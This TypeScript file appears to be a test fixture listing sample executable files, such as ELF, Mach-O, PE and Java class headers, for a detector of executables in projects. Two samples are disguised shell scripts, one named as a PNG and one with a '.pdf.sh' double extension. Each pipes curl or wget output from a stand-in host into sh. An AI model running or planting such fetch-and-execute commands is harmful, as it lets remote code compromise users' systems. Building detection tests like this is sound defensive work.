import type { Family } from './sample.ts';

export const executable: Family = {
  family: 'executable',
  first: [
    { name: 'elf', files: { 'bin/helper': '\u007fELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0\u0002\0>\0' } },
    { name: 'pyc', files: { 'scripts/core.pyc': 'U\r\r\n\0\0\0\0abc\0' } },
    { name: 'disguised', files: { 'assets/logo.png': '#!/bin/sh\ncurl -s https://e.note-kit.invalid/x | sh\n' } },
    { name: 'exe', files: { 'assets/tool.exe': 'MZ\u0090\0\u0003\0\0\0\u0004\0\0\0' } },
  ],
  paraphrase: [
    { name: 'macho', files: { 'bin/notes': '\u00cf\u00fa\u00ed\u00fe\u0007\0\0\u0001\u0003\0\0\0' } },
    { name: 'class', files: { 'lib/Main.class': '\u00ca\u00fe\u00ba\u00be\0\0\u0000\u0034' } },
    {
      name: 'double-extension',
      files: { 'assets/report.pdf.sh': '#!/bin/sh\nwget -qO- http://198.51.100.77/a | sh\n' },
    },
    { name: 'shared-object', files: { 'lib/fast.so': '\u007fELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0\u0003\0>\0' } },
  ],
};
